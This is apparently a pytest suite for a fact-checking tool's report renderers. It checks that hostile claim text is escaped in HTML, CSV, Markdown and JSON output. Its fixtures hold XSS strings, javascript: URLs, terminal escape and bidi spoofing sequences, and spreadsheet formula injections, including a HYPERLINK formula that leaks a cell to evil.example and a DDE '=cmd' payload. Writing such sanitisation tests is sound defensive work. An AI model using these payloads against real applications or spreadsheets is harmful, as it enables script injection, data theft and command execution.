"""Reports with hostile text: nothing runs, nothing evaluates, nothing escapes its place, in every format."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timezone
from html.parser import HTMLParser

import pytest

from factdesk import storage
from factdesk.models import Article, Claim, Speaker
from factdesk.reporting import FORMATS, ReportScope, build_report, render
from factdesk.reporting.csv_format import FORMULA_TRIGGERS, guard_csv_cell
from factdesk.reporting.markdown import md
from factdesk.reporting.text import clean, is_linkable, one_line

HOSTILE = [
    "<script>alert(1)</script> said the minister",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for source")',
    "-2+3 is the new toll",
    "@SUM(A1:A9) officials were detained",
    "+44 figures | # heading * bold _ em [x](javascript:alert(1)) `code` <b>tag</b>",
    "\x1b[31mRED ALERT\x1b[0m troops advanced\x1b]0;pwned\x07",
    "The file was \u202egpj.exe according to police",
    "line one\nline two\r\nline three",
    "\tTabbed =1+1 claim",
    '"><img src=x onerror=alert(1)> quoted',
]

GENERATED = datetime(2013, 3, 1, tzinfo=timezone.utc)
BAD_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile_report(fresh_db):
    speaker = Speaker("=cmd|' /C calc'!A0 <b>Boss</b>", role="\x1b[1mChief\x1b[0m | #1 *role*")
    claims = [Claim(order=i, kind="direct", text=t, content=((i * 300, i * 300 + len(t)),), speaker=speaker)
              for i, t in enumerate(HOSTILE)]
    article = Article(text="\n".join(HOSTILE), external_id="evil<1>", title="<i>Title</i> | # \u202eeltit",
                      source="=AFP", url="javascript:alert('url')", published="2013-02-06")
    saved = storage.save_article(fresh_db, article, claims)
    for i, claim_id in enumerate(saved.claim_ids):
        storage.review_claim(fresh_db, claim_id, "<b>rev</b>", status="false" if i % 2 else "misleading",
                             note=HOSTILE[(i + 3) % len(HOSTILE)],
                             evidence_url="javascript:alert(1)" if i % 2 else "https://ok.example/a b\"><x>")
    return build_report(fresh_db, ReportScope(), generated=GENERATED)


OPTS = {"org": "<script>org</script> =Org", "url_template": "https://fc.example/{id}?x=<y>\x1b[2J"}


@pytest.mark.parametrize("fmt", FORMATS)
def test_no_control_or_bidi_characters_survive(hostile_report, fmt):
    out = render(hostile_report, fmt, **OPTS)
    assert not BAD_CONTROLS.search(out)
    assert "[31m" not in out and "pwned" not in out  # whole escape sequences go, not just ESC


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.data = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.data.append(data)


def test_html_shows_markup_as_text(hostile_report):
    page = render(hostile_report, "html", **OPTS)
    parser = _Tags()
    parser.feed(page)
    tags = {t for t, _ in parser.tags}
    assert not tags & {"script", "img", "b", "i", "x", "iframe"}
    text = "".join(parser.data)
    assert "<script>alert(1)</script> said the minister" in text
    assert '"><img src=x onerror=alert(1)> quoted' in text
    assert "<script>org</script> =Org" in text
    for tag, attrs in parser.tags:
        assert not any(k.startswith("on") for k in attrs), (tag, attrs)
        if tag == "a":
            assert attrs["href"].startswith("https://"), attrs
    assert "javascript:" not in " ".join(a.get("href", "") for _, a in parser.tags)
    assert "javascript:alert(1)" in text  # shown, not linked


def test_csv_cells_never_start_a_formula(hostile_report):
    text = render(hostile_report, "csv", **OPTS)
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert len(rows) == len(HOSTILE) + 1
    assert all(len(r) == len(rows[0]) for r in rows)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell
    claims = [r[rows[0].index("claim")] for r in rows[1:]]
    assert "'=HYPERLINK(" in claims[1] and claims[2] == "'-2+3 is the new toll"
    assert claims[3].startswith("'@SUM") and claims[7] == "line one line two line three"
    assert rows[1][rows[0].index("speaker")].startswith("'=cmd")


def test_markdown_text_cannot_break_the_layout(hostile_report):
    out = render(hostile_report, "md", **OPTS)
    quotes = [line for line in out.splitlines() if line.startswith("> ")]
    assert len(quotes) == len(HOSTILE)  # newlines in a claim did not split it
    assert "> line one line two line three" in quotes
    markup = quotes[4]
    assert re.search(r"(?<!\\)[|#*_`\[\]<>]", markup[2:]) is None, markup
    assert not re.search(r"(?<!\\)\]\(<?javascript:", out)
    headings = [line for line in out.splitlines() if line.startswith("#")]
    assert all(not re.search(r"(?<!\\)#", h.lstrip("#").strip()) for h in headings)
    for line in out.splitlines():  # table rows keep their column count
        if line.startswith("| ") and "Claims" not in line and "Count" not in line and "---" not in line:
            assert len(re.findall(r"(?<!\\)\|", line)) == 3, line


@pytest.mark.parametrize("fmt", ["json", "claimreview"])
def test_json_formats_keep_the_text_as_data(hostile_report, fmt):
    data = json.loads(render(hostile_report, fmt, **OPTS))
    dumped = json.dumps(data, ensure_ascii=False)
    assert "<script>alert(1)</script> said the minister" in dumped
    assert "\\u001b" not in dumped and "\\u202e" not in dumped.lower()


def test_claimreview_url_is_not_built_with_format(hostile_report):
    items = json.loads(render(hostile_report, "claimreview", **OPTS))
    assert items[0]["url"].startswith("https://fc.example/")
    assert all(" " not in i["url"] and len(i["claimReviewed"]) < 75 for i in items)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Gao", "Gao"), ("4,000 troops", "4,000 troops"), (12, 12),
])
def test_guard_csv_cell(value, expected):
    assert guard_csv_cell(value) == expected


@pytest.mark.parametrize(("text", "expected"), [
    ("\x1b[31mred\x1b[0m", "red"), ("a\u202eb", "ab"), ("a\x00b\x07c", "abc"), ("caf\u00e9", "café"),
    ("\x1b]8;;http://x\x07link\x1b]8;;\x07", "link"),
])
def test_clean(text, expected):
    assert clean(text) == expected


@pytest.mark.parametrize(("url", "ok"), [
    ("https://www.defense.gouv.fr/x", True), ("http://example.org", True), ("javascript:alert(1)", False),
    ("JaVaScRiPt:alert(1)", False), ("data:text/html,<b>", False), ("file:///etc/passwd", False),
    ("//evil.example", False), ("https:/no-host", False), ("", False), (None, False),
])
def test_is_linkable(url, ok):
    assert is_linkable(url) is ok


@pytest.mark.parametrize(("text", "expected"), [
    ("a | b", "a \\| b"), ("# not a heading", "\\# not a heading"), ("*x* _y_", "\\*x\\* \\_y\\_"),
    ("2013. was", "2013\\. was"), ("- not a list", "\\- not a list"), ("`tick`", "\\`tick\\`"),
    ("two\nlines", "two lines"), ("Jean-Yves Le Drian", "Jean-Yves Le Drian"),
])
def test_md_escape(text, expected):
    assert md(text) == expected


def test_one_line_collapses_whitespace():
    assert one_line("  a\n\tb\r\n c ") == "a b c"
